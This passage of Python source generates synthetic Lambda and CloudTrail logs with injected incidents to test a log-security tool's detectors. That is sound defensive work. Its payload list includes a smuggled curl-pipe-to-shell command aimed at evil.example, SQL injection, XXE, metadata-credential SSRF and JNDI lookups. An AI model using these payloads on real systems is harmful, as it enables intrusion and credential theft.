"""A seeded generator of realistic Lambda and CloudTrail logs with injected incidents.

``faasguard logs generate --out DIR --size 100MB --seed N --format mixed`` writes the logs of
several functions (Python and Node runtimes; the classic text format, Lambda's JSON log
format with ``platform.*`` records, and Powertools structured lines) in one or all of the
container formats faasguard reads, plus CloudTrail files, and ``ground_truth.json``: every
injected incident with its rule id, function and time window. Tests and the benchmark
score each detector's precision and recall against it.

The same seed and size always give the same bytes (a ``random.Random`` seeded once; no
wall-clock time, no ``hash()``).
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import json
import math
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

#: Container formats; ``mixed`` gives each function another one (round robin).
CONTAINERS = ("plain", "gzip", "s3-export", "subscription", "filter-log-events", "jsonl")
#: ``firehose`` (subscription payloads as Kinesis Data Firehose writes them to S3) is not in
#: the ``mixed`` rotation, so the mixed output (and every test pinned on it) stays as it was.
FORMATS = (*CONTAINERS, "firehose", "mixed")

ACCOUNT = "111122223333"
FOREIGN_ACCOUNT = "999988887777"
REGION = "us-east-1"
START = dt.datetime(2024, 5, 1, tzinfo=dt.UTC)
DEPLOYER_ARN = f"arn:aws:sts::{ACCOUNT}:assumed-role/deploy-pipeline/codebuild-run"
EXEC_ROLE = "shop-lambda-exec"


@dataclass(frozen=True, slots=True)
class FunctionSpec:
    """A generated function: runtime, configuration and its normal behaviour."""

    name: str
    runtime: str
    memory: int
    timeout: int
    median_ms: float
    weight: float
    style: str  # "text", "json" (Lambda JSON log format) or "powertools"
    error_types: tuple[str, ...]
    base_memory: int


FUNCTIONS: tuple[FunctionSpec, ...] = (
    FunctionSpec("checkout", "python3.12", 512, 10, 120.0, 3.0, "text", ("KeyError",), 90),
    FunctionSpec("orders-api", "nodejs20.x", 256, 6, 80.0, 3.0, "text", ("TypeError",), 70),
    FunctionSpec("image-resize", "python3.12", 1024, 60, 1500.0, 1.0, "json", ("ValueError",), 400),
    FunctionSpec(
        "payments", "python3.12", 256, 15, 250.0, 2.0, "powertools", ("ValidationError",), 110
    ),
    FunctionSpec("notify", "nodejs20.x", 128, 3, 40.0, 2.0, "json", ("SyntaxError",), 60),
    FunctionSpec(
        "report-export", "python3.11", 2048, 300, 20000.0, 0.25, "text", ("OSError",), 900
    ),
)
_BY_NAME = {f.name: f for f in FUNCTIONS}
_BYTES_PER_INVOCATION = 820.0  # measured average over the styles; sizes the request rates
_BASE_ERROR_RATE = 0.004
_BASE_COLD_RATE = 0.01

#: Injection payloads by category (what LOG017 must find) and leaked secrets (LOG018).
INJECTIONS: tuple[tuple[str, str], ...] = (
    ("sqli", "' OR 1=1 UNION SELECT username, password FROM users--"),
    ("command", "invoice.pdf; curl http://evil.example/x.sh | sh"),
    ("path-traversal", "../../../../etc/passwd"),
    ("template", "{{7*7}}${{ self.__init__.__globals__ }}"),
    ("xxe", '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ("ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("jndi", "${jndi:ldap://attacker.example:1389/a}"),
)
SECRETS: tuple[tuple[str, str], ...] = (
    ("aws-access-key", "AKIAIOSFODNN7EXAMPLQ"),
    ("private-key", "-----BEGIN RSA PRIVATE KEY-----MIIEowIBAAKCAQEA7"),
    ("github-token", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    ("slack-token", "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
)
#: Functions triggered by an SQS queue: their logged events are SQS batches (LOG021).
_QUEUE_FUNCTIONS = frozenset({"notify"})
_BENIGN_PATHS = ("/orders/1042", "/cart", "/products?page=2", "/users/me", "/health")


@dataclass(slots=True)
class Incident:
    """One injected incident: what a detector must report (ground truth)."""

    kind: str
    rule_id: str
    function: str
    start: dt.datetime
    end: dt.datetime
    detail: str = ""

    def to_dict(self) -> dict[str, Any]:
        """JSON form written to ``ground_truth.json``."""
        return {
            "kind": self.kind,
            "rule_id": self.rule_id,
            "function": self.function,
            "start": _iso_s(self.start),
            "end": _iso_s(self.end),
            "detail": self.detail,
        }


@dataclass(slots=True)
class _Plan:
    """When each incident happens (minutes from START)."""

    minutes: int
    timeouts: dict[tuple[str, int], int] = field(default_factory=dict)
    ooms: dict[tuple[str, int], int] = field(default_factory=dict)
    error_spike: tuple[str, int, int] = ("", 0, 0)
    new_error: tuple[str, int, int] = ("", 0, 0)
    slow: tuple[str, int, int] = ("", 0, 0)
    surge: tuple[str, int, int] = ("", 0, 0)
    cold_burst: tuple[str, int, int] = ("", 0, 0)
    #: (function, minute, count): completed invocations at 82-94 % of the timeout (LOG019).
    near_timeout: tuple[str, int, int] = ("", 0, 0)
    #: (function, minute, minutes, lag s): queue messages processed late (LOG021).
    backlog: tuple[str, int, int, int] = ("", 0, 0, 0)
    injections: dict[tuple[str, int], list[tuple[str, str]]] = field(default_factory=dict)
    secrets: dict[tuple[str, int], list[tuple[str, str]]] = field(default_factory=dict)


def parse_size(text: str) -> int:
    """``100MB``/``1GB``/``512KB``/``12345`` → bytes (decimal units, as disks are sold)."""
    value = text.strip().upper().removesuffix("B")
    units = {"K": 10**3, "M": 10**6, "G": 10**9}
    if value and value[-1] in units:
        return int(float(value[:-1]) * units[value[-1]])
    return int(float(value or "0"))


def _iso_ms(ms: int) -> str:
    seconds, millis = divmod(ms, 1000)
    return f"{_second_text(seconds)}.{millis:03d}Z"


_SECOND_CACHE: dict[int, str] = {}


def _second_text(seconds: int) -> str:
    # strftime is the slow part of generation; timestamps repeat per second, so memoise.
    text = _SECOND_CACHE.get(seconds)
    if text is None:
        if len(_SECOND_CACHE) > 100_000:
            _SECOND_CACHE.clear()
        text = dt.datetime.fromtimestamp(seconds, dt.UTC).strftime("%Y-%m-%dT%H:%M:%S")
        _SECOND_CACHE[seconds] = text
    return text


def _iso_s(value: dt.datetime) -> str:
    return value.strftime("%Y-%m-%dT%H:%M:%SZ")


def _minute(m: int) -> dt.datetime:
    return START + dt.timedelta(minutes=m)


class _Generator:
    def __init__(self, out: Path, size: int, seed: int, container: str) -> None:
        self.out = out
        self.size = size
        self.seed = seed
        self.rng = random.Random(seed)
        self.container = container
        self.hours = 6 if size < 64 * 10**6 else 24
        minutes = self.hours * 60
        total_weight = sum(f.weight for f in FUNCTIONS)
        per_minute = size / _BYTES_PER_INVOCATION / minutes
        self.rate = {f.name: max(0.2, per_minute * f.weight / total_weight) for f in FUNCTIONS}
        self.plan = self._plan(minutes)
        # Planned with its own generator, so the incidents above keep their times and bytes.
        late = random.Random(f"near-timeout-{seed}").uniform(0.2, 0.3)
        self.plan.near_timeout = ("checkout", int(minutes * late) // 5 * 5 + 3, 3)
        behind = random.Random(f"backlog-{seed}").uniform(0.12, 0.18)
        self.plan.backlog = ("notify", int(minutes * behind) // 5 * 5, 3, 240)
        self.incidents: list[Incident] = []
        self.written = 0
        self.warm: dict[str, bool] = {}
        self.seen_first: set[str] = set()
        self.event_ids = 0

    # -- planning -------------------------------------------------------------------------

    def _plan(self, minutes: int) -> _Plan:
        rng = self.rng
        plan = _Plan(minutes=minutes)

        def at(fraction_low: float, fraction_high: float) -> int:
            # Incidents start on a 5-minute boundary after the baseline period.
            m = int(minutes * rng.uniform(fraction_low, fraction_high))
            return m - m % 5

        plan.timeouts[("checkout", at(0.35, 0.45) + 2)] = 3
        plan.timeouts[("report-export", at(0.7, 0.8) + 1)] = 1
        plan.ooms[("image-resize", at(0.5, 0.6) + 3)] = 2
        plan.error_spike = ("orders-api", at(0.4, 0.5), 10)
        plan.new_error = ("payments", at(0.65, 0.75), 5)
        plan.slow = ("notify", at(0.55, 0.65), 10)
        plan.surge = ("orders-api", at(0.8, 0.9), 10)
        plan.cold_burst = ("checkout", at(0.6, 0.7), 10)
        names = ("checkout", "orders-api", "payments", "notify")
        for index, (category, payload) in enumerate(INJECTIONS):
            key = (names[index % len(names)], at(0.3, 0.95) + 1)
            plan.injections.setdefault(key, []).append((category, payload))
        for index, (category, secret) in enumerate(SECRETS):
            key = (names[(index + 1) % len(names)], at(0.3, 0.95) + 2)
            plan.secrets.setdefault(key, []).append((category, secret))
        return plan

    def _record_plan(self) -> None:
        p = self.plan
        for (fn, m), count in p.timeouts.items():
            self.incidents.append(
                Incident("timeout", "LOG010", fn, _minute(m), _minute(m + 1), f"{count} timeouts")
            )
        for (fn, m), count in p.ooms.items():
            self.incidents.append(
                Incident("oom", "LOG011", fn, _minute(m), _minute(m + 1), f"{count} OOM exits")
            )
        simple = (
            ("error-spike", "LOG012", p.error_spike),
            ("new-error-type", "LOG013", p.new_error),
            ("duration-anomaly", "LOG014", p.slow),
            ("invocation-surge", "LOG015", p.surge),
            ("cold-start-burst", "LOG016", p.cold_burst),
        )
        for kind, rule_id, (fn, m, length) in simple:
            self.incidents.append(Incident(kind, rule_id, fn, _minute(m), _minute(m + length)))
        # Half the invocations fail with the new type while it lasts: that is a spike too.
        fn, m, length = p.new_error
        self.incidents.append(
            Incident(
                "error-spike",
                "LOG012",
                fn,
                _minute(m),
                _minute(m + length),
                "caused by the new error type",
            )
        )
        fn, m, count = p.near_timeout
        self.incidents.append(
            Incident(
                "near-timeout",
                "LOG019",
                fn,
                _minute(m),
                _minute(m + 1),
                f"{count} invocations at 82-94 % of the timeout",
            )
        )
        fn, m, length, lag = p.backlog
        self.incidents.append(
            Incident(
                "queue-backlog",
                "LOG021",
                fn,
                _minute(m),
                _minute(m + length),
                f"SQS messages processed {lag} s or more after they were sent",
            )
        )
        for (fn, m), items in p.injections.items():
            for category, _ in items:
                self.incidents.append(
                    Incident("injection", "LOG017", fn, _minute(m), _minute(m + 1), category)
                )
        for (fn, m), items in p.secrets.items():
            for category, _ in items:
                self.incidents.append(
                    Incident("secret", "LOG018", fn, _minute(m), _minute(m + 1), category)
                )

    # -- invocations ------------------------------------------------------------------------

    def _rid(self) -> str:
        bits = self.rng.getrandbits(128)
        h = f"{bits:032x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{h[16:20]}-{h[20:]}"

    def _poisson(self, lam: float) -> int:
        if lam > 30:
            return max(0, round(self.rng.gauss(lam, math.sqrt(lam))))
        limit, k, p = math.exp(-lam), 0, 1.0
        while True:
            p *= self.rng.random()
            if p <= limit:
                return k
            k += 1

    def invocations(self, fn: FunctionSpec, minute: int) -> list[tuple[int, str]]:
        """(epoch ms, log line without the container's timestamp prefix) of one minute."""
        p = self.plan
        rate = self.rate[fn.name]
        surge_fn, surge_at, surge_len = p.surge
        if fn.name == surge_fn and surge_at <= minute < surge_at + surge_len:
            rate *= 15
        count = self._poisson(rate)
        timeouts = p.timeouts.get((fn.name, minute), 0)
        ooms = p.ooms.get((fn.name, minute), 0)
        injections = list(p.injections.get((fn.name, minute), []))
        secrets = list(p.secrets.get((fn.name, minute), []))
        near_fn, near_at, near_count = p.near_timeout
        slow = near_count if (fn.name, minute) == (near_fn, near_at) else 0
        count = max(count, timeouts + ooms + slow, len(injections), len(secrets))
        base = int((START + dt.timedelta(minutes=minute)).timestamp() * 1000)
        lines: list[tuple[int, str]] = []
        for index in range(count):
            start_ms = base + self.rng.randrange(60_000)
            outcome = "ok"
            if index < timeouts:
                outcome = "timeout"
            elif index < timeouts + ooms:
                outcome = "oom"
            elif index < timeouts + ooms + slow:
                outcome = "slow"
            payload: tuple[str, str] | None = None
            if injections:
                payload = ("event", injections.pop()[1])
            elif secrets:
                payload = ("secret", secrets.pop()[1])
            lines.extend(self._invocation(fn, minute, start_ms, outcome, payload))
        return lines

    def _invocation(
        self,
        fn: FunctionSpec,
        minute: int,
        t: int,
        outcome: str,
        payload: tuple[str, str] | None,
    ) -> list[tuple[int, str]]:
        rng, p = self.rng, self.plan
        rid = self._rid()
        cold_fn, cold_at, cold_len = p.cold_burst
        cold_rate = 0.5 if fn.name == cold_fn and cold_at <= minute < cold_at + cold_len else 0
        cold = not self.warm.get(fn.name) or rng.random() < max(cold_rate, _BASE_COLD_RATE)
        self.warm[fn.name] = True
        duration = rng.lognormvariate(math.log(fn.median_ms), 0.35)
        slow_fn, slow_at, slow_len = p.slow
        if fn.name == slow_fn and slow_at <= minute < slow_at + slow_len:
            duration *= 8
        duration = min(duration, fn.timeout * 1000 * 0.7)
        error_type: str | None = None
        spike_fn, spike_at, spike_len = p.error_spike
        new_fn, new_at, new_len = p.new_error
        if fn.name not in self.seen_first:
            # Every usual error type shows up once early, as it would in real history.
            self.seen_first.add(fn.name)
            error_type = fn.error_types[0]
        elif fn.name == spike_fn and spike_at <= minute < spike_at + spike_len:
            error_type = fn.error_types[0] if rng.random() < 0.6 else None
        elif fn.name == new_fn and new_at <= minute < new_at + new_len and rng.random() < 0.5:
            error_type = "PaymentGatewayTimeoutError"
        elif rng.random() < _BASE_ERROR_RATE:
            error_type = fn.error_types[0]
        if outcome != "ok":
            error_type = None
        memory_used = min(fn.memory - 1, int(fn.base_memory * rng.uniform(0.9, 1.2)))
        if outcome == "timeout":
            duration = fn.timeout * 1000.0 + rng.uniform(0.5, 40)
        if outcome == "slow":
            # Completes, but close to the timeout (no extra random draw: the stream of the
            # other invocations stays as it was).
            duration = fn.timeout * 1000.0 * (0.82 + (t % 13) / 100)
            outcome = "ok"
        if outcome == "oom":
            memory_used = fn.memory
        init_ms = rng.uniform(150, 900) if cold else None
        if fn.style == "json":
            return self._json_style(
                fn, t, rid, duration, memory_used, init_ms, outcome, error_type, payload
            )
        return self._text_style(
            fn, t, rid, duration, memory_used, init_ms, outcome, error_type, payload
        )

    def _event_text(self, fn: FunctionSpec, t: int, payload: tuple[str, str] | None) -> str:
        path = self.rng.choice(_BENIGN_PATHS)
        if fn.name in _QUEUE_FUNCTIONS:
            return self._sqs_event(t, path, payload)
        if payload and payload[0] == "event":
            return json.dumps({"httpMethod": "POST", "path": path, "body": payload[1]})
        return json.dumps({"httpMethod": "GET", "path": path, "body": None})

    def _sqs_event(self, t: int, path: str, payload: tuple[str, str] | None) -> str:
        """An SQS batch of one message; sent well before ``t`` while the backlog lasts."""
        fn, at, length, lag = self.plan.backlog
        minute = (t - int(START.timestamp() * 1000)) // 60_000
        # No random draw: the other invocations keep their bytes.
        sent = t - 20 - t % 900
        if fn in _QUEUE_FUNCTIONS and at <= minute < at + length:
            sent -= lag * 1000 + t % 30_000
        body = payload[1] if payload and payload[0] == "event" else f"notify {path}"
        record = {
            "messageId": f"{zlib.crc32(str(t).encode()):08x}-{t % 10000:04d}",
            "body": body,
            "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": str(sent)},
            "eventSource": "aws:sqs",
        }
        return json.dumps({"Records": [record]})

    def _app_lines(
        self, fn: FunctionSpec, t: int, rid: str, payload: tuple[str, str] | None
    ) -> list[tuple[str, str]]:
        """(level, message) of the handler's own output."""
        out = [("INFO", f"Received event: {self._event_text(fn, t, payload)}")]
        if payload and payload[0] == "secret":
            out.append(("DEBUG", f"using credentials token={payload[1]}"))
        out.append(
            (
                "INFO",
                f"processed item {self.rng.randrange(100000)} for tenant "
                f"t-{self.rng.randrange(40)}",
            )
        )
        return out

    def _text_style(
        self,
        fn: FunctionSpec,
        t: int,
        rid: str,
        duration: float,
        memory_used: int,
        init_ms: float | None,
        outcome: str,
        error_type: str | None,
        payload: tuple[str, str] | None,
    ) -> list[tuple[int, str]]:
        node = fn.runtime.startswith("nodejs")
        lines: list[tuple[int, str]] = []
        if init_ms is not None:
            version = "nodejs:20.v22" if node else "python:3.12.v18"
            lines.append(
                (
                    t - int(init_ms),
                    f"INIT_START Runtime Version: {version}\tRuntime "
                    f"Version ARN: arn:aws:lambda:{REGION}::runtime:{'0' * 12}",
                )
            )
        lines.append((t, f"START RequestId: {rid} Version: $LATEST"))
        now = t + 1
        for level, message in self._app_lines(fn, t, rid, payload):
            lines.append((now, self._app_line(fn, now, rid, level, message)))
            now += 1
        end = t + int(duration)
        if error_type:
            lines.append((end, self._error_line(fn, end, rid, error_type)))
        if outcome == "timeout":
            # The real message repeats the timestamp before the request id.
            lines.append(
                (end, f"{_iso_ms(end)} {rid} Task timed out after {fn.timeout:.2f} seconds")
            )
        if outcome == "oom":
            lines.append(
                (end, f"RequestId: {rid} Error: Runtime exited with error: signal: killed")
            )
            lines.append((end, "Runtime.ExitError"))
        lines.append((end, f"END RequestId: {rid}"))
        report = (
            f"REPORT RequestId: {rid}\tDuration: {duration:.2f} ms\tBilled Duration: "
            f"{math.ceil(duration)} ms\tMemory Size: {fn.memory} MB\tMax Memory Used: "
            f"{memory_used} MB\t"
        )
        if init_ms is not None:
            report += f"Init Duration: {init_ms:.2f} ms\t"
        lines.append((end, report))
        return lines

    def _app_line(self, fn: FunctionSpec, t: int, rid: str, level: str, message: str) -> str:
        if fn.style == "powertools":
            return json.dumps(
                {
                    "level": level,
                    "location": "handler:31",
                    "message": message,
                    "timestamp": _iso_ms(t).replace("Z", "+0000"),
                    "service": fn.name,
                    "cold_start": False,
                    "function_name": fn.name,
                    "function_memory_size": str(fn.memory),
                    "function_request_id": rid,
                },
                separators=(",", ":"),
            )
        if fn.runtime.startswith("nodejs"):
            return f"{_iso_ms(t)}\t{rid}\t{level}\t{message}"
        return f"[{level}]\t{_iso_ms(t)}\t{rid}\t{message}"

    def _error_line(self, fn: FunctionSpec, t: int, rid: str, error_type: str) -> str:
        detail = f"request {self.rng.randrange(10**6)} failed"
        if fn.style == "powertools":
            return json.dumps(
                {
                    "level": "ERROR",
                    "location": "handler:52",
                    "message": "Unhandled error",
                    "timestamp": _iso_ms(t).replace("Z", "+0000"),
                    "service": fn.name,
                    "function_request_id": rid,
                    "exception": f'Traceback (most recent call last):\n  File "/var/task/'
                    f'app.py", line 52, in handler\n{error_type}: {detail}',
                    "exception_name": error_type,
                },
                separators=(",", ":"),
            )
        if fn.runtime.startswith("nodejs"):
            body = json.dumps(
                {
                    "errorType": error_type,
                    "errorMessage": detail,
                    "stack": [
                        f"{error_type}: {detail}",
                        "    at Runtime.handler (/var/task/index.js:12:20)",
                    ],
                },
                separators=(",", ":"),
            )
            return f"{_iso_ms(t)}\t{rid}\tERROR\tInvoke Error \t{body}"
        return (
            f"[ERROR] {error_type}: {detail}\rTraceback (most recent call last):\r  File "
            f'"/var/task/app.py", line 42, in handler\r    raise {error_type}(msg)'
        )

    def _json_style(
        self,
        fn: FunctionSpec,
        t: int,
        rid: str,
        duration: float,
        memory_used: int,
        init_ms: float | None,
        outcome: str,
        error_type: str | None,
        payload: tuple[str, str] | None,
    ) -> list[tuple[int, str]]:
        def platform(ts: int, kind: str, record: dict[str, Any]) -> tuple[int, str]:
            body = {"time": _iso_ms(ts), "type": kind, "record": record}
            return ts, json.dumps(body, separators=(",", ":"))

        lines: list[tuple[int, str]] = []
        if init_ms is not None:
            lines.append(
                platform(
                    t - int(init_ms),
                    "platform.initStart",
                    {
                        "initializationType": "on-demand",
                        "phase": "init",
                        "runtimeVersion": "python:3.12.v18",
                    },
                )
            )
        lines.append(platform(t, "platform.start", {"requestId": rid, "version": "$LATEST"}))
        now = t + 1
        for level, message in self._app_lines(fn, t, rid, payload):
            body: dict[str, Any] = {
                "timestamp": _iso_ms(now),
                "level": level,
                "message": message,
                "logger": "root",
                "requestId": rid,
            }
            lines.append((now, json.dumps(body, separators=(",", ":"))))
            now += 1
        end = t + int(duration)
        if error_type:
            body = {
                "timestamp": _iso_ms(end),
                "level": "ERROR",
                "message": {
                    "errorMessage": f"request {self.rng.randrange(10**6)} failed",
                    "errorType": error_type,
                    "requestId": rid,
                    "stackTrace": ['  File "/var/task/app.py", line 42, in handler\n'],
                },
                "requestId": rid,
            }
            lines.append((end, json.dumps(body, separators=(",", ":"))))
        status = {"ok": "success", "timeout": "timeout", "oom": "error"}[outcome]
        metrics: dict[str, Any] = {
            "durationMs": round(duration, 2),
            "billedDurationMs": math.ceil(duration),
            "memorySizeMB": fn.memory,
            "maxMemoryUsedMB": memory_used,
        }
        if init_ms is not None:
            metrics["initDurationMs"] = round(init_ms, 2)
        record: dict[str, Any] = {"requestId": rid, "metrics": metrics, "status": status}
        if outcome == "oom":
            record["errorType"] = "Runtime.OutOfMemory"
        lines.append(platform(end, "platform.report", record))
        return lines

    # -- writing ----------------------------------------------------------------------------

    def run(self) -> dict[str, Any]:
        self._record_plan()
        containers = {
            fn.name: (
                CONTAINERS[i % len(CONTAINERS)] if self.container == "mixed" else self.container
            )
            for i, fn in enumerate(FUNCTIONS)
        }
        for hour in range(self.hours):
            for fn in FUNCTIONS:
                events: list[tuple[int, str]] = []
                for minute in range(hour * 60, hour * 60 + 60):
                    events.extend(self.invocations(fn, minute))
                events.sort(key=lambda e: e[0])
                self._write(containers[fn.name], fn, hour, events)
        self._write_cloudtrail()
        truth = {
            "seed_note": "generated by faasguard logs generate",
            "start": _iso_s(START),
            "end": _iso_s(START + dt.timedelta(hours=self.hours)),
            "bytes": self.written,
            "functions": [
                {
                    "name": f.name,
                    "runtime": f.runtime,
                    "memory": f.memory,
                    "timeout": f.timeout,
                    "container": containers[f.name],
                    "style": f.style,
                }
                for f in FUNCTIONS
            ],
            "incidents": [i.to_dict() for i in self.incidents],
        }
        (self.out / "ground_truth.json").write_text(json.dumps(truth, indent=2) + "\n")
        return truth

    def _stream(self, fn: FunctionSpec, hour: int) -> str:
        day = (START + dt.timedelta(hours=hour)).strftime("%Y/%m/%d")
        return f"{day}/[$LATEST]{zlib.crc32(f'{fn.name}{hour}'.encode()):08x}{'0' * 24}"

    def _write(
        self, container: str, fn: FunctionSpec, hour: int, events: list[tuple[int, str]]
    ) -> None:
        stamp = (START + dt.timedelta(hours=hour)).strftime("%Y-%m-%d-%H")
        group = f"aws/lambda/{fn.name}"
        stream = self._stream(fn, hour)
        writers: dict[str, Callable[[], None]] = {}

        def text_bytes() -> bytes:
            return "".join(f"{_iso_ms(ts)} {msg}\n" for ts, msg in events).encode()

        def plain() -> None:
            self._emit(self.out / group / f"{stamp}.log", text_bytes())

        def gz() -> None:
            self._emit(self.out / group / f"{stamp}.log.gz", text_bytes(), compress=True)

        def s3_export() -> None:
            task = f"{zlib.crc32(fn.name.encode()):08x}-export"
            self._emit(
                self.out / "s3-export" / group / task / stream / "000000.gz",
                text_bytes(),
                compress=True,
            )

        def payloads() -> list[bytes]:
            """CloudWatch Logs subscription payloads of 200 events (JSON)."""
            out = []
            for chunk_start in range(0, len(events), 200):
                chunk = events[chunk_start : chunk_start + 200]
                body = {
                    "messageType": "DATA_MESSAGE",
                    "owner": ACCOUNT,
                    "logGroup": f"/{group}",
                    "logStream": stream,
                    "subscriptionFilters": ["faasguard"],
                    "logEvents": [
                        {"id": self._event_id(), "timestamp": ts, "message": msg}
                        for ts, msg in chunk
                    ],
                }
                out.append(json.dumps(body).encode())
            return out

        def subscription() -> None:
            lines = []
            for body in payloads():
                data = base64.b64encode(gzip.compress(body, mtime=0))
                lines.append(json.dumps({"awslogs": {"data": data.decode()}}))
            self._emit(
                self.out / "subscription" / fn.name / f"{stamp}.json",
                ("\n".join(lines) + "\n").encode(),
            )

        def firehose() -> None:
            # Firehose delivers the (gzip) payload records back to back into one object,
            # named <prefix>/YYYY/MM/DD/HH/<stream>-<version>-<time>-<id>, no extension.
            when = START + dt.timedelta(hours=hour)
            name = f"faasguard-cwl-1-{when:%Y-%m-%d-%H}-00-00-{zlib.crc32(group.encode()):08x}"
            self._emit(
                self.out / "firehose" / f"{when:%Y/%m/%d/%H}" / name,
                b"".join(gzip.compress(body, mtime=0) for body in payloads()),
            )

        def filter_log_events() -> None:
            body = {
                "events": [
                    {
                        "logStreamName": stream,
                        "timestamp": ts,
                        "message": msg,
                        "ingestionTime": ts + 200,
                        "eventId": self._event_id(),
                    }
                    for ts, msg in events
                ],
                "searchedLogStreams": [{"logStreamName": stream, "searchedCompletely": True}],
            }
            self._emit(
                self.out / "filter-log-events" / group / f"{stamp}.json",
                json.dumps(body, indent=1).encode(),
            )

        def jsonl() -> None:
            text = "".join(
                json.dumps(
                    {
                        "logGroup": f"/{group}",
                        "logStream": stream,
                        "id": self._event_id(),
                        "timestamp": ts,
                        "message": msg,
                    }
                )
                + "\n"
                for ts, msg in events
            )
            self._emit(self.out / "jsonl" / f"{fn.name}-{stamp}.jsonl", text.encode())

        writers = {
            "plain": plain,
            "gzip": gz,
            "s3-export": s3_export,
            "subscription": subscription,
            "firehose": firehose,
            "filter-log-events": filter_log_events,
            "jsonl": jsonl,
        }
        writers[container]()

    def _event_id(self) -> str:
        self.event_ids += 1
        return f"{self.event_ids:056d}"

    def _emit(self, path: Path, data: bytes, *, compress: bool = False) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        self.written += len(data)
        if compress:
            data = gzip.compress(data, compresslevel=4, mtime=0)
        path.write_bytes(data)

    # -- CloudTrail -------------------------------------------------------------------------

    def _write_cloudtrail(self) -> None:
        rng = self.rng
        records: list[dict[str, Any]] = []
        minutes = self.plan.minutes

        def event(m: int, name: str, source: str, arn: str, params: dict[str, Any]) -> None:
            when = _minute(m) + dt.timedelta(seconds=rng.randrange(60))
            user = arn.rsplit("/", 2)
            records.append(
                {
                    "eventVersion": "1.09",
                    "userIdentity": {
                        "type": "AssumedRole",
                        "arn": arn,
                        "principalId": f"AROA{zlib.crc32(arn.encode()):012d}:{user[-1]}",
                        "accountId": ACCOUNT,
                    },
                    "eventTime": _iso_s(when),
                    "eventSource": source,
                    "eventName": name,
                    "awsRegion": REGION,
                    "sourceIPAddress": "203.0.113.10",
                    "userAgent": "aws-cli/2.15.0",
                    "requestParameters": params,
                    "responseElements": None,
                    "eventID": f"{rng.getrandbits(128):032x}",
                    "readOnly": False,
                    "eventType": "AwsApiCall",
                    "recipientAccountId": ACCOUNT,
                }
            )

        lam = "lambda.amazonaws.com"
        for m in range(5, minutes, 45):  # the pipeline deploys regularly
            fn = FUNCTIONS[(m // 45) % len(FUNCTIONS)].name
            event(
                m,
                "UpdateFunctionCode20150331v2",
                lam,
                DEPLOYER_ARN,
                {"functionName": fn, "s3Bucket": "shop-artifacts", "s3Key": f"{fn}.zip"},
            )
            event(
                m,
                "UpdateFunctionConfiguration20150331v2",
                lam,
                DEPLOYER_ARN,
                {"functionName": fn, "timeout": _BY_NAME[fn].timeout},
            )
            event(
                m,
                "GetFunction20150331v2",
                lam,
                f"arn:aws:sts::{ACCOUNT}:assumed-role/readonly/auditor",
                {"functionName": fn},
            )
        event(
            20,
            "AddPermission20150331v2",
            lam,
            DEPLOYER_ARN,
            {
                "functionName": "orders-api",
                "statementId": "apigw",
                "action": "lambda:InvokeFunction",
                "principal": "apigateway.amazonaws.com",
                "sourceArn": f"arn:aws:execute-api:{REGION}:{ACCOUNT}:abc123/*",
            },
        )
        event(
            25,
            "CreateFunction20150331",
            lam,
            DEPLOYER_ARN,
            {"functionName": "notify", "runtime": "nodejs20.x"},
        )
        rogue = f"arn:aws:sts::{ACCOUNT}:assumed-role/dev-admin/mallory"

        def incident(
            kind: str,
            rule_id: str,
            fn: str,
            m: int,
            name: str,
            source: str,
            params: dict[str, Any],
            arn: str = rogue,
        ) -> None:
            event(m, name, source, arn, params)
            self.incidents.append(Incident(kind, rule_id, fn, _minute(m), _minute(m + 1)))

        def when(low: float, high: float) -> int:
            return int(minutes * rng.uniform(low, high))

        incident(
            "code-changed-by-unusual-principal",
            "LOG030",
            "checkout",
            when(0.4, 0.9),
            "UpdateFunctionCode20150331v2",
            lam,
            {"functionName": "checkout", "zipFile": "<binary>"},
        )
        incident(
            "permission-to-anyone",
            "LOG031",
            "payments",
            when(0.4, 0.9),
            "AddPermission20150331v2",
            lam,
            {
                "functionName": "payments",
                "statementId": "open",
                "action": "lambda:InvokeFunction",
                "principal": "*",
            },
            DEPLOYER_ARN,
        )
        incident(
            "function-url-no-auth",
            "LOG032",
            "orders-api",
            when(0.4, 0.9),
            "CreateFunctionUrlConfig20211031",
            lam,
            {"functionName": "orders-api", "authType": "NONE"},
            DEPLOYER_ARN,
        )
        incident(
            "foreign-layer",
            "LOG033",
            "image-resize",
            when(0.4, 0.9),
            "UpdateFunctionConfiguration20150331v2",
            lam,
            {
                "functionName": "image-resize",
                "layers": [f"arn:aws:lambda:{REGION}:{FOREIGN_ACCOUNT}:layer:fast-png:3"],
            },
            DEPLOYER_ARN,
        )
        incident(
            "concurrency-zero",
            "LOG034",
            "notify",
            when(0.4, 0.9),
            "PutFunctionConcurrency20171031",
            lam,
            {"functionName": "notify", "reservedConcurrentExecutions": 0},
        )
        incident(
            "role-policy-changed",
            "LOG035",
            EXEC_ROLE,
            when(0.4, 0.9),
            "PutRolePolicy",
            "iam.amazonaws.com",
            {
                "roleName": EXEC_ROLE,
                "policyName": "inline-admin",
                "policyDocument": '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
            },
        )
        incident(
            "logging-stopped",
            "LOG036",
            "trail/management",
            when(0.4, 0.9),
            "StopLogging",
            "cloudtrail.amazonaws.com",
            {"name": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management"},
        )
        incident(
            "function-created-outside-pipeline",
            "LOG037",
            "crypto-miner",
            when(0.4, 0.9),
            "CreateFunction20150331",
            lam,
            {"functionName": "crypto-miner", "runtime": "python3.12"},
        )

        def write_trail(
            trail: str, trail_records: list[dict[str, Any]], bits: random.Random
        ) -> None:
            trail_records.sort(key=lambda r: str(r["eventTime"]))
            for hour in range(0, self.hours, 2):
                low = _iso_s(START + dt.timedelta(hours=hour))
                high = _iso_s(START + dt.timedelta(hours=hour + 2))
                chunk = [r for r in trail_records if low <= r["eventTime"] < high]
                if not chunk:
                    continue
                stamp = (START + dt.timedelta(hours=hour)).strftime("%Y%m%dT%H%MZ")
